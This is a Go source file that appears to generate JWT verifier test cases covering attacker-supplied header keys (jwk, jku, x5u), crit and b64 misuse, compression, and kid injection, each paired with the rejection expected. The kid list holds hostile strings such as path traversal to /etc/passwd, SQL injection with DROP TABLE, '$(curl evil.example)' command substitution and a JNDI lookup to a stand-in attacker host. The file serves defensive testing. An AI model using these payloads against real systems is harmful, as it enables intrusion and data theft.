package main

import (
	"fmt"
	"strings"
)

// headerKeys: the header contains the key that should verify the token, or its address.
func headerKeys(w *world) *class {
	c := w.class("header-keys",
		"The attacker signs with a key of their own and names it in the header: jwk, jku, x5u, x5c, x5t.",
		"RFC 8725 section 3.10", "RFC 7515 section 4.1.2 to 4.1.8", "CVE-2018-0114")
	type attack struct {
		alg  string
		sign signer
		jwk  string
	}
	attacks := []attack{
		{"RS256", rsSigner(hashOf("RS256"), w.attackerRSA), w.attackerRSA.jwk("")},
		{"PS256", psSigner(hashOf("PS256"), w.attackerRSA, pss{}), w.attackerRSA.jwk("")},
		{"ES256", esSigner(hashOf("ES256"), w.attackerEC), w.attackerEC.jwk("")},
		{"EdDSA", edSigner(w.attackerEd), edJWK("", publicEd(w.attackerEd))},
		{"HS256", hmacSigner(hashOf("HS256"), w.attackerSecret), octJWK(w.attackerSecret)},
	}
	for _, a := range attacks {
		_, kid := w.signer(a.alg)
		members := [][2]string{
			{"jwk", `"jwk":` + a.jwk},
			{"jku", `"jku":"https://evil.example/jwks.json"`},
			{"jku on the issuer's host", `"jku":"https://issuer.example@evil.example/jwks.json"`},
			{"x5u", `"x5u":"https://evil.example/cert.pem"`},
			{"x5c", `"x5c":["MIIBIjANBgkqhkiG9w0BAQEFAAOCAQ8AMIIBCgKCAQEA"]`},
			{"x5t", `"x5t":"AAAAAAAAAAAAAAAAAAAAAAAAAAA"`},
			{"x5t#S256", `"x5t#S256":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"`},
		}
		good, _ := w.signer(a.alg)
		for _, m := range members {
			header := fmt.Sprintf(`{"alg":%q,"kid":%q,%s}`, a.alg, kid, m[1])
			c.add(a.alg, m[0]+", the issuer's kid", join(header, claims(), a.sign), badSig, "only a published key may sign a token")
			code := unknownKey
			if a.alg == "HS256" {
				code = badSig
			}
			header = fmt.Sprintf(`{"alg":%q,"kid":"evil",%s}`, a.alg, m[1])
			c.add(a.alg, m[0]+", a kid of its own", join(header, claims(), a.sign), code, "only a published key may sign a token")
			header = fmt.Sprintf(`{"alg":%q,"kid":%q,%s}`, a.alg, kid, m[1])
			c.add(a.alg, m[0]+" under a good signature", join(header, claims(), good), accepted,
				"keys in the header, and addresses of keys, are ignored").choice()
		}
		header := fmt.Sprintf(`{"alg":%q,"jwk":%s}`, a.alg, a.jwk)
		c.add(a.alg, "jwk without a kid", join(header, claims(), a.sign), badSig, "every published key is tried, and none verifies the signature")
	}
	return c
}

// critical: extensions that must be understood.
func critical(w *world) *class {
	c := w.class("crit", "The header marks members as critical that the verifier does not know, or lists them in a wrong form.",
		"RFC 7515 section 4.1.11", "RFC 8725 section 3.9", "CVE-2025-59420")
	for _, m := range [][2]string{
		{"an unknown extension", `"crit":["http://example.invalid/x"],"http://example.invalid/x":true`},
		{"an unknown extension that is absent", `"crit":["x"]`},
		{"exp", `"crit":["exp"],"exp":1`},
		{"alg", `"crit":["alg"]`},
		{"kid", `"crit":["kid"]`},
		{"b64, unencoded", `"crit":["b64"],"b64":false`},
		{"b64, encoded", `"crit":["b64"],"b64":true`},
		{"an empty list", `"crit":[]`},
		{"null", `"crit":null`},
		{"false", `"crit":false`},
		{"a string", `"crit":"exp"`},
		{"a number", `"crit":0`},
		{"an object", `"crit":{"exp":true}`},
		{"a list of numbers", `"crit":[1]`},
		{"a list of null", `"crit":[null]`},
		{"a nested list", `"crit":[["exp"]]`},
		{"an empty name", `"crit":[""]`},
		{"a name twice", `"crit":["x","x"],"x":1`},
		{"cnf", `"crit":["cnf"],"cnf":{"jkt":"x"}`},
		{"written with an escape", `"\u0063rit":["x"],"x":1`},
	} {
		for _, alg := range []string{"RS256", "ES256", "HS256"} {
			sign, _ := w.signer(alg)
			header := strings.TrimSuffix(w.header(alg), "}") + "," + m[1] + "}"
			c.add(alg, "crit is "+m[0], join(header, claims(), sign), badFormat,
				"an extension that is not understood must be refused")
		}
	}
	for _, alg := range []string{"RS256", "ES256", "HS256"} {
		sign, _ := w.signer(alg)
		header := strings.TrimSuffix(w.header(alg), "}")
		c.add(alg, "an unknown member that is not critical", join(header+`,"x":{"y":[1]}}`, claims(), sign), accepted,
			"RFC 7515 section 4: unknown members are ignored")
		c.add(alg, "crit in another case", join(header+`,"Crit":["x"]}`, claims(), sign), accepted,
			"names are compared exactly, so this is an unknown member")
	}
	return c
}

// unencoded: RFC 7797.
func unencoded(w *world) *class {
	c := w.class("b64-false", "The header asks for a payload that is not encoded, so two readers see two payloads.",
		"RFC 7797 section 3", "RFC 7797 section 8", "RFC 8725 section 3.9")
	for _, alg := range []string{"RS256", "ES256", "EdDSA", "HS256"} {
		sign, _ := w.signer(alg)
		header := strings.TrimSuffix(w.header(alg), "}")
		for _, b := range []string{`false`, `null`, `0`, `"false"`, `"true"`, `[]`, `{}`} {
			c.add(alg, "b64 is "+b, join(header+`,"b64":`+b+`}`, claims(), sign), badFormat,
				"RFC 7519 section 7.2: the payload of a JWT is encoded")
		}
		c.add(alg, "b64 is true", join(header+`,"b64":true}`, claims(), sign), accepted, "true is the default")
		plain := `{"iss":"x"}`
		input := b64([]byte(header+`,"b64":false,"crit":["b64"]}`)) + "." + plain
		c.add(alg, "a payload that is not encoded", input+"."+b64(sign(input)), badFormat, "the payload is not base64url")
		detached := b64([]byte(w.header(alg))) + "."
		c.add(alg, "a detached payload", detached+"."+b64(sign(detached+b64([]byte(claims())))), badFormat,
			"RFC 7515 appendix F: a token carries its claims")
	}
	return c
}

// compression: zip in a JWS.
func compression(w *world) *class {
	c := w.class("compression", "The header asks for decompression: a short token may become a huge one.",
		"RFC 7516 section 4.1.3", "RFC 8725 section 2.4", "CVE-2024-21319", "CVE-2024-28180", "CVE-2024-33664")
	for _, alg := range one() {
		sign, _ := w.signer(alg)
		header := strings.TrimSuffix(w.header(alg), "}")
		for _, z := range []string{`"DEF"`, `"GZIP"`, `""`, `null`} {
			c.add(alg, "zip is "+z, join(header+`,"zip":`+z+`}`, claims(), sign), badFormat,
				"zip has no meaning in a JWS, and a reader that decompresses sees a different payload")
		}
	}
	return c
}

// keyIDs: kids that attack the code that looks them up.
func keyIDs(w *world) *class {
	c := w.class("kid-injection", "The kid is text from a stranger: it must name a published key exactly, and reach nothing else.",
		"RFC 8725 section 3.10", "RFC 7515 section 4.1.4")
	ids := []string{
		"../../../../dev/null", "/dev/null", `..\..\windows\win.ini`, "file:///etc/passwd", "https://evil.example/key.pem",
		"' OR '1'='1", "' UNION SELECT 'secret' --", "rsa'; DROP TABLE keys; --", "$(curl evil.example)", "`id`", "|id", "rsa;id",
		"${jndi:ldap://evil.example/a}", "{{7*7}}", "%00", "rsa%00", "rsa%20", "RSA", "Rsa", " rsa", "rsa ", "rsa.", "rsa/", "rsa/../rsa",
		"rs", "rsaa", "rsa\u00ad", "r\u0455a", "\u202ersa", "\ufeffrsa", "rsa\u0301", "ｒｓａ", "__proto__", "constructor", "toString", "0", "*",
		"", "P-256", strings.Repeat("k", 256), "undefined", "null", "[object Object]",
	}
	evil := rsSigner(hashOf("RS256"), w.attackerRSA)
	good, _ := w.signer("RS256")
	for i, id := range ids {
		name := fmt.Sprintf("%+q", id)
		if len(id) > 100 {
			name = fmt.Sprintf("%d letters", len(id))
		}
		header := fmt.Sprintf(`{"alg":"RS256","kid":%s}`, quote(id))
		c.add("RS256", name, join(header, claims(), good), unknownKey, "no published key has this kid")
		if i%4 == 0 {
			c.add("RS256", name+", signed by the attacker", join(header, claims(), evil), unknownKey, "no published key has this kid")
		}
	}
	empty := hmacSigner(hashOf("HS256"), nil)
	for _, id := range ids[:6] {
		c.add("HS256", fmt.Sprintf("%+q and an empty secret", id),
			join(fmt.Sprintf(`{"alg":"HS256","kid":%s}`, quote(id)), claims(), empty), badSig, "a kid does not choose the secret")
	}
	for _, m := range [][2]string{
		{"a line break", `"rsa\n"`},
		{"CR LF", `"rsa\r\nSet-Cookie: a=b"`},
		{"a zero", `"rsa\u0000"`},
		{"a delete", `"\u007f"`},
		{"a C1 control", `"\u0085"`},
		{"257 letters", quote(strings.Repeat("k", 257))},
		{"a number", `1`},
		{"null", `null`},
		{"a list", `["rsa"]`},
		{"an object", `{"rsa":1}`},
		{"a boolean", `true`},
	} {
		c.add("RS256", "kid is "+m[0], join(`{"alg":"RS256","kid":`+m[1]+`}`, claims(), good), badFormat,
			"a kid is a short string that can be printed").choice()
	}
	c.add("RS256", "kid with an escape", join(`{"alg":"RS256","kid":"\u0072sa"}`, claims(), good), accepted,
		"an escape is another spelling of the same text")
	c.add("RS256", "no kid", join(`{"alg":"RS256"}`, claims(), good), accepted, "the published keys that fit are tried")
	return c
}
